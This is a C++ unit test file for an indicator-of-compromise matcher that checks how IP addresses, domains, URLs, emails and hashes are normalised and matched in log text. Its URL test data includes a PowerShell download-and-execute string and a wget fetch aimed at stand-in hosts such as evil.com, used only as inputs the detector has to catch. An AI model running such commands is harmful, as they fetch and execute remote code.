#include "rampart/detect/ioc_set.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <iterator>
#include <random>
#include <string>
#include <tuple>
#include <vector>

namespace rampart::detect {
namespace {

IocSet Make(std::initializer_list<const char*> iocs) {
  IocSet set;
  uint32_t tag = 0;
  for (const char* text : iocs) {
    auto v = ClassifyIoc(text);
    EXPECT_TRUE(v.has_value()) << text;
    if (v) set.Add(*v, tag++);
  }
  return set;
}

// The canonical entries hit while scanning `value`.
std::vector<std::string> Hits(const IocSet& set, std::string_view value) {
  std::vector<std::string> out;
  set.ScanValue(value, [&](const IocHit& h) { out.emplace_back(h.ioc); });
  return out;
}

using V = std::vector<std::string>;

std::string fmt_ip(uint32_t i) {
  return "11." + std::to_string(i >> 16) + "." + std::to_string((i >> 8) & 255) + "." + std::to_string(i & 255);
}

TEST(IocClassify, DetectsEveryType) {
  struct Case { const char* text; IocType type; const char* canonical; };
  const Case cases[] = {
      {"10.1.2.3", IocType::kIpv4, "10.1.2.3"},
      {"10.1.2.3/8", IocType::kCidr4, "10.0.0.0/8"},
      {"10.1.2.3/32", IocType::kIpv4, "10.1.2.3"},
      {"2001:DB8::1", IocType::kIpv6, "2001:db8::1"},
      {"2001:db8::/32", IocType::kCidr6, "2001:db8::/32"},
      {"Evil.Example.COM.", IocType::kDomain, "evil.example.com"},
      {"*.evil.com", IocType::kDomain, "evil.com"},
      {"HTTPS://Evil.com:443/a/B/", IocType::kUrl, "evil.com/a/B"},
      {"http://evil.com:8080/x#frag", IocType::kUrl, "evil.com:8080/x"},
      {"evil.com/dl/x.ps1", IocType::kUrl, "evil.com/dl/x.ps1"},
      {"Bad.Guy@Evil.com", IocType::kEmail, "bad.guy@evil.com"},
      {"D41D8CD98F00B204E9800998ECF8427E", IocType::kMd5, "d41d8cd98f00b204e9800998ecf8427e"},
      {"da39a3ee5e6b4b0d3255bfef95601890afd80709", IocType::kSha1, "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
  };
  for (const Case& c : cases) {
    auto v = ClassifyIoc(c.text);
    ASSERT_TRUE(v.has_value()) << c.text;
    EXPECT_EQ(v->type, c.type) << c.text;
    EXPECT_EQ(v->value, c.canonical) << c.text;
  }
  for (const char* bad : {"", "hello", "256.1.1.1.1x", "10.0.0.0/33", "evil.c0m", "-evil.com", "a..b.com",
                          "http://", "d41d8cd98f00b204e9800998ecf8427", "x@y"}) {
    EXPECT_FALSE(ClassifyIoc(bad).has_value()) << bad;
  }
  EXPECT_EQ(ClassifyIoc(std::string(64, 'a'))->type, IocType::kSha256);
  EXPECT_EQ(ClassifyIoc(std::string(128, 'F'))->type, IocType::kSha512);
}

TEST(IocSet, Ipv4ExactAndTokenBoundaries) {
  IocSet set = Make({"5.2.69.14"});
  EXPECT_EQ(Hits(set, "5.2.69.14"), V{"5.2.69.14"});
  EXPECT_EQ(Hits(set, "from=5.2.69.14:443,"), V{"5.2.69.14"});
  EXPECT_TRUE(Hits(set, "15.2.69.14").empty());
  EXPECT_TRUE(Hits(set, "5.2.69.140").empty());
  EXPECT_TRUE(Hits(set, "1.5.2.69.14").empty());  // part of a longer dotted number
  EXPECT_EQ(Hits(set, "5.2.69.14."), V{"5.2.69.14"});  // sentence end
}

TEST(IocSet, CidrEdges) {
  IocSet set = Make({"192.168.10.0/24", "10.0.0.0/8", "0.0.0.0/1"});
  EXPECT_EQ(Hits(set, "192.168.10.0"), (V{"192.168.10.0/24"}));
  EXPECT_EQ(Hits(set, "192.168.10.255"), (V{"192.168.10.0/24"}));
  EXPECT_TRUE(Hits(set, "192.168.11.0").empty());
  EXPECT_TRUE(Hits(set, "192.168.9.255").empty());
  // Longest prefix first; every block containing the address reports.
  EXPECT_EQ(Hits(set, "10.255.255.255"), (V{"10.0.0.0/8", "0.0.0.0/1"}));
  EXPECT_TRUE(Hits(set, "128.0.0.0").empty());
  EXPECT_EQ(Hits(set, "127.255.255.255"), (V{"0.0.0.0/1"}));
  IocSet all = Make({"0.0.0.0/0"});
  EXPECT_EQ(Hits(all, "255.255.255.255"), (V{"0.0.0.0/0"}));
}

TEST(IocSet, Ipv6) {
  IocSet set = Make({"2001:db8::1", "2001:db8:ffff::/48", "fe80::/10"});
  EXPECT_EQ(Hits(set, "src=2001:0db8:0000::0001 port"), (V{"2001:db8::1"}));
  EXPECT_EQ(Hits(set, "2001:DB8:FFFF:1::9"), (V{"2001:db8:ffff::/48"}));
  EXPECT_TRUE(Hits(set, "2001:db8:fffe::1").empty());
  EXPECT_EQ(Hits(set, "[fe80::1%eth0]"), (V{"fe80::/10"}));
  EXPECT_EQ(Hits(set, "febf::1"), (V{"fe80::/10"}));
  EXPECT_TRUE(Hits(set, "fec0::1").empty());
  EXPECT_TRUE(Hits(set, "10:00:00").empty());  // a time is not an address
}

TEST(IocSet, DomainSuffixRules) {
  IocSet set = Make({"evil.com", "c2.example.net"});
  EXPECT_EQ(Hits(set, "evil.com"), V{"evil.com"});
  EXPECT_EQ(Hits(set, "a.b.EVIL.com"), V{"evil.com"});           // subdomains match
  EXPECT_TRUE(Hits(set, "notevil.com").empty());                  // label boundary
  EXPECT_TRUE(Hits(set, "evil.com.au").empty());                  // not a suffix
  EXPECT_TRUE(Hits(set, "example.net").empty());                  // parent does not hit child
  EXPECT_EQ(Hits(set, "x.c2.example.net"), V{"c2.example.net"});
  EXPECT_EQ(Hits(set, "nslookup+x.evil.com"), V{"evil.com"});
  EXPECT_EQ(Hits(set, "GET http://www.evil.com/a.php?q=1"), V{"evil.com"});
  EXPECT_EQ(Hits(set, "mail from bob@evil.com."), V{"evil.com"});
  // Nested listings report every level.
  IocSet nested = Make({"evil.com", "a.evil.com"});
  EXPECT_EQ(Hits(nested, "x.a.evil.com"), (V{"a.evil.com", "evil.com"}));
}

TEST(IocSet, UrlNormalisation) {
  IocSet set = Make({"http://Evil.com/dl/p.ps1", "https://evil.org/", "evil.net/gate.php?id=1"});
  EXPECT_EQ(Hits(set, "IEX((New-Object+Net.WebClient).DownloadString('http://evil.com/dl/p.ps1'))"),
            V{"evil.com/dl/p.ps1"});
  EXPECT_EQ(Hits(set, "HTTPS://EVIL.COM:443/dl/p.ps1"), V{"evil.com/dl/p.ps1"});  // scheme, host case, port
  EXPECT_TRUE(Hits(set, "http://evil.com/dl/P.ps1").empty());                        // path keeps its case
  EXPECT_TRUE(Hits(set, "http://evil.com/dl/p.ps1x").empty());
  EXPECT_EQ(Hits(set, "see http://evil.org"), V{"evil.org"});                       // trailing slash
  EXPECT_EQ(Hits(set, "wget+evil.net/gate.php?id=1+-O+x"), V{"evil.net/gate.php?id=1"});
  EXPECT_EQ(Hits(set, "<a href=\"http://evil.com/dl/p.ps1#x\">"), V{"evil.com/dl/p.ps1"});
}

TEST(IocSet, HashesCaseFoldedAndDelimited) {
  const std::string sha256 = "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0";
  std::string upper = sha256;
  for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  IocSet set = Make({upper.c_str(), "d41d8cd98f00b204e9800998ecf8427e"});
  EXPECT_EQ(Hits(set, "z1=x&z2=" + sha256), V{sha256});
  EXPECT_EQ(Hits(set, "Hashes=SHA256=" + upper + ",MD5=D41D8CD98F00B204E9800998ECF8427E"),
            (V{sha256, "d41d8cd98f00b204e9800998ecf8427e"}));
  EXPECT_EQ(Hits(set, "sample_" + sha256 + ".bin"), V{sha256});
  EXPECT_TRUE(Hits(set, "a" + sha256).empty());         // part of a longer hex run
  EXPECT_TRUE(Hits(set, sha256.substr(0, 63)).empty());
}

TEST(IocSet, EmailAndTags) {
  IocSet set;
  set.Add(*ClassifyIoc("bad@evil.com"), 7);
  set.Add(*ClassifyIoc("BAD@evil.com"), 9);
  set.Add(*ClassifyIoc("bad@evil.com"), 7);
  EXPECT_EQ(set.size(), 1u);
  std::vector<uint32_t> tags;
  set.ScanValue("From: Bad@Evil.com", [&](const IocHit& h) {
    EXPECT_EQ(h.type, IocType::kEmail);
    EXPECT_EQ(h.token, "Bad@Evil.com");
    tags.assign(h.tags, h.tags + h.tag_count);
  });
  EXPECT_EQ(tags, (std::vector<uint32_t>{7, 9}));
}

TEST(IocSet, LookupValueIsExactPerType) {
  IocSet set = Make({"evil.com", "10.0.0.0/8", "http://evil.com/x"});
  size_t n = set.LookupValue(IocType::kDomain, "www.evil.com", [](const IocHit&) {});
  EXPECT_EQ(n, 1u);
  EXPECT_EQ(set.LookupValue(IocType::kIpv4, "10.2.3.4", [](const IocHit&) {}), 1u);
  EXPECT_EQ(set.LookupValue(IocType::kIpv4, "11.2.3.4", [](const IocHit&) {}), 0u);
  EXPECT_EQ(set.LookupValue(IocType::kUrl, "https://EVIL.com/x/", [](const IocHit&) {}), 1u);
  EXPECT_EQ(set.count(IocType::kCidr4), 1u);
}

// The cost of a scan must not depend on the list size: the same value does
// the same number of lookups (hits) whether 10 or 100,000 decoys are listed.
TEST(IocSet, LargeListsStillHitExactly) {
  IocSet set = Make({"evil.com"});
  for (uint32_t i = 0; i < 100000; ++i) {
    set.Add(IocValue{IocType::kIpv4, fmt_ip(i)}, i + 1);
  }
  EXPECT_EQ(Hits(set, "GET /x 11.0.1.2 a.evil.com"), (V{"11.0.1.2", "evil.com"}));
}

// (offset of the token in `text`, token, entry) for every hit.
using Hit3 = std::tuple<size_t, std::string, std::string>;

std::vector<Hit3> PerLine(const IocSet& set, std::string_view text) {
  std::vector<Hit3> out;
  size_t start = 0;
  while (start < text.size()) {
    size_t nl = text.find('\n', start);
    std::string_view line = text.substr(start, nl == std::string_view::npos ? std::string_view::npos : nl - start);
    set.ScanValue(line, [&](const IocHit& h) {
      out.emplace_back(static_cast<size_t>(h.token.data() - text.data()), std::string(h.token), std::string(h.ioc));
    });
    if (nl == std::string_view::npos) break;
    start = nl + 1;
  }
  std::sort(out.begin(), out.end());
  return out;
}

std::vector<Hit3> WholeText(const IocSet& set, std::string_view text) {
  std::vector<Hit3> out;
  size_t n = set.ScanText(text, [&](const IocHit& h) {
    out.emplace_back(static_cast<size_t>(h.token.data() - text.data()), std::string(h.token), std::string(h.ioc));
  });
  EXPECT_EQ(n, out.size());
  std::sort(out.begin(), out.end());
  return out;
}

// Lines mixing every token kind, hits and near misses, in random order.
std::string RandomLog(uint32_t seed, int lines) {
  static const char* kPieces[] = {
      "10.1.2.3", "010.001.002.003", "110.1.2.3", "10.1.2.30", "10.1.2.3.4", "EVIL.com", "a.b.evil.com",
      "notevil.com", "evil.co", "evil.com.", "http://Evil.com:80/x/?q=1", "https://evil.com/x", "evil.com/x+y",
      "hxxp://evil.com", "bob@Evil.com", "x@evil.com", "d41d8cd98f00b204e9800998ecf8427e",
      "D41D8CD98F00B204E9800998ECF8427E", "d41d8cd98f00b204e9800998ecf8427e0", "GET", "/owa/auth.aspx", "200",
      "Mozilla/5.0+(Windows+NT+10.0)", "-", "cs-uri-query=z2=d41d8cd98f00b204e9800998ecf8427e&u=evil.com",
      "\"10.1.2.3\"", "(evil.com)", "2021-03-01", "12:00:01", "192.168.0.1", "url=http://evil.com/x"};
  std::mt19937 rng(seed);
  std::string out;
  for (int i = 0; i < lines; ++i) {
    int words = 1 + static_cast<int>(rng() % 12);
    for (int w = 0; w < words; ++w) {
      if (w) out += (rng() % 5 == 0) ? "\t" : " ";
      out += kPieces[rng() % std::size(kPieces)];
    }
    out += (rng() % 7 == 0) ? "\r\n" : "\n";
  }
  return out;
}

TEST(IocSet, ScanTextFindsWhatPerLineScanningFinds) {
  IocSet set = Make({"10.1.2.3", "evil.com", "http://evil.com/x", "bob@evil.com", "d41d8cd98f00b204e9800998ecf8427e",
                     "192.168.0.1"});
  for (uint32_t seed = 1; seed <= 20; ++seed) {
    std::string text = RandomLog(seed, 200);
    std::vector<Hit3> want = PerLine(set, text);
    ASSERT_FALSE(want.empty());
    EXPECT_EQ(WholeText(set, text), want) << "seed " << seed;
  }
  // Leading zeros still hit (ParseIpv4 reads them); a longer number does not.
  EXPECT_EQ(WholeText(set, "a 010.001.002.003 b\n110.1.2.3 10.1.2.30\n").size(), 1u);
  EXPECT_TRUE(WholeText(set, "").empty());
  EXPECT_TRUE(WholeText(set, "nothing to see here\n").empty());
}

TEST(IocSet, ScanTextWithoutAPrefilterIsAPlainScan) {
  // CIDR blocks and IPv6 addresses have no literal: the whole text is scanned.
  IocSet set = Make({"10.0.0.0/8", "2001:db8::1", "evil.com"});
  std::string text = RandomLog(7, 300) + "x 2001:DB8:0::1 10.9.9.9\n";
  std::vector<Hit3> want = PerLine(set, text);
  ASSERT_FALSE(want.empty());
  EXPECT_EQ(WholeText(set, text), want);
}

TEST(IocSet, ScanTextSeesEntriesAddedAfterAScan) {
  IocSet set = Make({"evil.com"});
  EXPECT_EQ(WholeText(set, "a good.org b\n").size(), 0u);
  set.Add(*ClassifyIoc("good.org"), 9);
  EXPECT_EQ(WholeText(set, "a good.org b\n").size(), 1u);
}

}  // namespace
}  // namespace rampart::detect
